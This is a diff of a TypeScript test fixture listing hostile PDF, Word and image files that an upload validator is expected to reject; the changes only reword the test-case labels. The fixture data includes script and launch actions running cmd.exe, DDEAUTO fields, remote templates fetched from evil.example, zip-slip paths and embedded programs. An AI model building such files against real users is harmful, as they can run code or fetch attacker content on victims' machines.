@@ -14,7 +14,7 @@ import {
   zip,
 } from './sample-files.ts'
 
-/** A file that must not be kept: its name, its bytes and the code of the refusal. */
+/** A file that must be refused: its name, its bytes and the error code. */
 export type HostileFile = readonly [fileName: string, content: Buffer, code: string]
 
 /** A PDF of one page: keys of its catalog and page, and further objects from number 4 on. */
@@ -87,7 +87,7 @@ const pngClaiming = (side: number): Buffer => {
   return content
 }
 
-/** The files of a person who attacks, each of another kind. */
+/** An attacker's files, each of a different kind. */
 export const hostileFiles = async (): Promise<Record<string, HostileFile>> => {
   const noise = await sharp({
     create: {
@@ -104,7 +104,7 @@ export const hostileFiles = async (): Promise<Record<string, HostileFile>> => {
   const script = '<</S/JavaScript/JS(app.alert(1))>>'
   const entity = (name: string, text: string) => `<!ENTITY ${name} "${text}">`
   return {
-    'pdf: a header alone': ['x.pdf', Buffer.from('%PDF-'), 'file-damaged'],
+    'pdf: only a header': ['x.pdf', Buffer.from('%PDF-'), 'file-damaged'],
     'pdf: a header and words': ['x.pdf', Buffer.from(`%PDF-1.7\n${'words '.repeat(900)}`), 'file-damaged'],
     'pdf: without its page': ['x.pdf', half(SAMPLES.pdf).subarray(0, 90), 'file-damaged'],
     'pdf: pages that contain themselves': [
@@ -121,32 +121,36 @@ export const hostileFiles = async (): Promise<Record<string, HostileFile>> => {
       'file-damaged',
     ],
     'pdf: a password': ['x.pdf', await lockedPdf(), 'file-password'],
-    'pdf: a script at opening': ['x.pdf', pdfWith({ catalog: `/OpenAction${script}` }), 'file-active'],
-    'pdf: a script under a name': [
+    'pdf: a script that runs when the file opens': [
+      'x.pdf',
+      pdfWith({ catalog: `/OpenAction${script}` }),
+      'file-active',
+    ],
+    'pdf: a named script': [
       'x.pdf',
       pdfWith({ catalog: `/Names<</JavaScript<</Names[(a)${script}]>>>>` }),
       'file-active',
     ],
-    'pdf: a script of a page': ['x.pdf', pdfWith({ page: `/AA<</O${script}>>` }), 'file-active'],
+    'pdf: a script on a page': ['x.pdf', pdfWith({ page: `/AA<</O${script}>>` }), 'file-active'],
     'pdf: a script behind a link': ['x.pdf', pdfWith(annotation(`/Subtype/Link/A${script}`)), 'file-active'],
-    'pdf: a script of a form field': [
+    'pdf: a script on a form field': [
       'x.pdf',
       pdfWith({ catalog: `/AcroForm<</Fields[<</FT/Tx/T(a)/AA<</K${script}>>>>]>>` }),
       'file-active',
     ],
-    'pdf: a script in other letters': [
+    'pdf: a script with escaped names': [
       'x.pdf',
       pdfWith({ catalog: '/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>' }),
       'file-active',
     ],
     'pdf: a script in compressed objects': ['x.pdf', await hiddenScript(), 'file-active'],
     'pdf: a script that nothing refers to': ['x.pdf', pdfWith({ objects: [script] }), 'file-active'],
-    'pdf: a script behind its end': [
+    'pdf: a script after its end': [
       'x.pdf',
       Buffer.concat([SAMPLES.pdf, Buffer.from(`\n9 0 obj${script}endobj\n%%EOF`)]),
       'file-active',
     ],
-    'pdf: a script after the words of a printer': [
+    'pdf: a script after printer commands': [
       'x.pdf',
       Buffer.concat([Buffer.from('@PJL JOB\n'), pdfWith({ catalog: `/OpenAction${script}` })]),
       'file-active',
@@ -161,7 +165,7 @@ export const hostileFiles = async (): Promise<Record<string, HostileFile>> => {
       pdfWith(annotation('/Subtype/Link/A<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>')),
       'file-active',
     ],
-    'pdf: a program inside': [
+    'pdf: an embedded program': [
       'x.pdf',
       pdfWith({
         catalog: '/Names<</EmbeddedFiles<</Names[(a.exe)<</EF<</F 4 0 R>>>>]>>>>',
@@ -169,7 +173,7 @@ export const hostileFiles = async (): Promise<Record<string, HostileFile>> => {
       }),
       'file-active',
     ],
-    'pdf: a program as a note': [
+    'pdf: a program attached to a note': [
       'x.pdf',
       pdfWith({
         ...annotation('/Subtype/FileAttachment/FS<</EF<</F 4 0 R>>>>'),
@@ -177,17 +181,17 @@ export const hostileFiles = async (): Promise<Record<string, HostileFile>> => {
       }),
       'file-active',
     ],
-    'pdf: a film': ['x.pdf', pdfWith(annotation('/Subtype/Movie')), 'file-active'],
-    'pdf: a film with a program': ['x.pdf', pdfWith(annotation('/Subtype/RichMedia')), 'file-active'],
-    'pdf: a screen': ['x.pdf', pdfWith(annotation('/Subtype/Screen')), 'file-active'],
-    'pdf: a model in space': ['x.pdf', pdfWith(annotation('/Subtype/3D')), 'file-active'],
+    'pdf: a movie': ['x.pdf', pdfWith(annotation('/Subtype/Movie')), 'file-active'],
+    'pdf: rich media': ['x.pdf', pdfWith(annotation('/Subtype/RichMedia')), 'file-active'],
+    'pdf: a screen annotation': ['x.pdf', pdfWith(annotation('/Subtype/Screen')), 'file-active'],
+    'pdf: a 3D model': ['x.pdf', pdfWith(annotation('/Subtype/3D')), 'file-active'],
     'pdf: a rendition': ['x.pdf', pdfWith({ catalog: '/OpenAction<</S/Rendition>>' }), 'file-active'],
-    'pdf: data from elsewhere': [
+    'pdf: an import of data': [
       'x.pdf',
       pdfWith({ catalog: '/OpenAction<</S/ImportData/F(\\\\\\\\evil\\\\x)>>' }),
       'file-active',
     ],
-    'pdf: a jump into a file inside': [
+    'pdf: a jump into an embedded file': [
       'x.pdf',
       pdfWith({ catalog: '/OpenAction<</S/GoToE>>' }),
       'file-active',
@@ -201,7 +205,7 @@ export const hostileFiles = async (): Promise<Record<string, HostileFile>> => {
       'file-too-complex',
     ],
     'pdf: 2,000 pages': ['x.pdf', await longPdf(2_000), 'file-too-complex'],
-    'pdf: a program in front': ['x.pdf', Buffer.concat([PROGRAM, SAMPLES.pdf]), 'file-damaged'],
+    'pdf: a program before its header': ['x.pdf', Buffer.concat([PROGRAM, SAMPLES.pdf]), 'file-damaged'],
     'pdf: a web page': ['x.pdf', Buffer.from('<html><script>alert(1)</script></html>'), 'file-damaged'],
     'pdf: the test file of virus scanners': [
       'x.pdf',
@@ -227,9 +231,13 @@ export const hostileFiles = async (): Promise<Record<string, HostileFile>> => {
       wordFile(wordText(' '.repeat(80_000_000))),
       'file-too-complex',
     ],
-    'docx: an entry that leads out': ['x.docx', wordFile(part('../../evil')), 'file-damaged'],
-    'docx: an entry that leads out as on Windows': ['x.docx', wordFile(part('..\\..\\evil')), 'file-damaged'],
-    'docx: an entry at the root': ['x.docx', wordFile(part('/etc/passwd')), 'file-damaged'],
+    'docx: an entry outside the archive': ['x.docx', wordFile(part('../../evil')), 'file-damaged'],
+    'docx: an entry outside the archive, with backslashes': [
+      'x.docx',
+      wordFile(part('..\\..\\evil')),
+      'file-damaged',
+    ],
+    'docx: an entry with an absolute path': ['x.docx', wordFile(part('/etc/passwd')), 'file-damaged'],
     'docx: an entry on a drive': ['x.docx', wordFile(part('C:\\evil')), 'file-damaged'],
     'docx: a template from the web': [
       'x.docx',
@@ -241,12 +249,12 @@ export const hostileFiles = async (): Promise<Record<string, HostileFile>> => {
       wordLink('attachedTemplate', '\\\\evil.example\\t.dotm'),
       'file-active',
     ],
-    'docx: a template from a share as an address': [
+    'docx: a template from a share, with a file address': [
       'x.docx',
       wordLink('attachedTemplate', 'file://evil.example/t.dotm'),
       'file-active',
     ],
-    'docx: a template from a share with five slashes': [
+    'docx: a template from a share, with five slashes': [
       'x.docx',
       wordLink('attachedTemplate', 'file://///evil.example/t.dotm'),
       'file-active',
@@ -257,16 +265,20 @@ export const hostileFiles = async (): Promise<Record<string, HostileFile>> => {
       'file-active',
     ],
     'docx: a frame from the web': ['x.docx', wordLink('frame', 'https://evil.example/x'), 'file-active'],
-    'docx: a chapter from the web': [
+    'docx: a subdocument from the web': [
       'x.docx',
       wordLink('subDocument', 'https://evil.example/x'),
       'file-active',
     ],
-    'docx: a piece from the web': ['x.docx', wordLink('aFChunk', 'https://evil.example/x'), 'file-active'],
+    'docx: an imported chunk from the web': [
+      'x.docx',
+      wordLink('aFChunk', 'https://evil.example/x'),
+      'file-active',
+    ],
     'docx: macros': ['x.docx', wordFile(part('word/vbaProject.bin')), 'file-macros'],
-    'docx: a file with macros inside': ['x.docx', wordFile(part('word/embeddings/a.docm')), 'file-macros'],
-    'docx: a control': ['x.docx', wordFile(part('word/activeX/activeX1.bin')), 'file-active'],
-    'docx: a program inside': [
+    'docx: an embedded file with macros': ['x.docx', wordFile(part('word/embeddings/a.docm')), 'file-macros'],
+    'docx: an ActiveX control': ['x.docx', wordFile(part('word/activeX/activeX1.bin')), 'file-active'],
+    'docx: an embedded program': [
       'x.docx',
       wordFile(part('word/embeddings/oleObject1.bin', compoundFile(['\u0001Ole10Native', PROGRAM]))),
       'file-active',
@@ -276,8 +288,12 @@ export const hostileFiles = async (): Promise<Record<string, HostileFile>> => {
       field('DDEAUTO c:\\\\cmd.exe "/k calc"'),
       'file-active',
     ],
-    'docx: such a field in pieces': ['x.docx', field('DD', 'EAU', 'TO c:\\\\cmd.exe'), 'file-active'],
-    'docx: such a field in one element': [
+    'docx: a field that starts a program, in pieces': [
+      'x.docx',
+      field('DD', 'EAU', 'TO c:\\\\cmd.exe'),
+      'file-active',
+    ],
+    'docx: a field that starts a program, in one element': [
       'x.docx',
       wordFile(wordText('<w:p><w:fldSimple w:instr="DDE c:\\\\cmd.exe"/></w:p>')),
       'file-active',
@@ -297,23 +313,23 @@ export const hostileFiles = async (): Promise<Record<string, HostileFile>> => {
       'file-active',
     ],
     'docx: a text that is not well-formed': ['x.docx', xmlDocument('<w:document>'), 'file-damaged'],
-    'docx: no text': [
+    'docx: without a main document': [
       'x.docx',
       wordFile(links('_rels/.rels', [{ type: 'officeDocument', target: 'word/other.xml' }])),
       'file-damaged',
     ],
-    'docx: half of it': ['x.docx', half(wordFile(part('word/media/a', noise))), 'file-damaged'],
+    'docx: cut in half': ['x.docx', half(wordFile(part('word/media/a', noise))), 'file-damaged'],
     'docx: a password': ['x.docx', ENCRYPTED_DOCX, 'file-password'],
     'docx: a plain archive': ['x.docx', zip([part('a.txt')]), 'file-damaged'],
 
     'doc: macros': ['x.doc', oldWord(['Macros', [['VBA', [['_VBA_PROJECT', PROGRAM]]]]]), 'file-macros'],
-    'doc: a program inside': [
+    'doc: an embedded program': [
       'x.doc',
       oldWord(['ObjectPool', [['_1', [['\u0001Ole10Native', PROGRAM]]]]]),
       'file-active',
     ],
     'doc: a workbook': ['x.doc', compoundFile(['Workbook', PROGRAM]), 'file-damaged'],
-    'doc: half of it': ['x.doc', half(oldWord(['1Table', Buffer.alloc(9_000, 'text')])), 'file-damaged'],
+    'doc: cut in half': ['x.doc', half(oldWord(['1Table', Buffer.alloc(9_000, 'text')])), 'file-damaged'],
     'doc: without its last sectors': [
       'x.doc',
       compoundFile(
@@ -327,23 +343,23 @@ export const hostileFiles = async (): Promise<Record<string, HostileFile>> => {
       compoundFile(['WordDocument', wordStream({ isEncrypted: true })]),
       'file-password',
     ],
-    'doc: a main stream of words': [
+    'doc: a main stream without a header': [
       'x.doc',
       compoundFile(['WordDocument', Buffer.alloc(5_000, 'text')]),
       'file-damaged',
     ],
 
-    'png: 65,535 pixels each way': ['x.png', pngClaiming(65_535), 'file-too-complex'],
-    'png: half of it': ['x.png', half(noisePng), 'file-damaged'],
-    'png: a header alone': ['x.png', SAMPLES.png.subarray(0, 33), 'file-damaged'],
-    'png: a drawing with a script': [
+    'png: 65,535 pixels wide and high': ['x.png', pngClaiming(65_535), 'file-too-complex'],
+    'png: cut in half': ['x.png', half(noisePng), 'file-damaged'],
+    'png: only a header': ['x.png', SAMPLES.png.subarray(0, 33), 'file-damaged'],
+    'png: an SVG with a script': [
       'x.png',
       Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
       'file-damaged',
     ],
     'png: a gif': ['x.png', await sharp(noise).gif().toBuffer(), 'file-damaged'],
-    'jpg: half of it': ['x.jpg', half(noise), 'file-damaged'],
-    'jpg: a header alone': ['x.jpg', noise.subarray(0, 20), 'file-damaged'],
+    'jpg: cut in half': ['x.jpg', half(noise), 'file-damaged'],
+    'jpg: only a header': ['x.jpg', noise.subarray(0, 20), 'file-damaged'],
     'jpg: a tiff': ['x.jpg', await sharp(noise).tiff().toBuffer(), 'file-damaged'],
     'jpg: a webp': ['x.jpg', await sharp(noise).webp().toBuffer(), 'file-damaged'],
   }
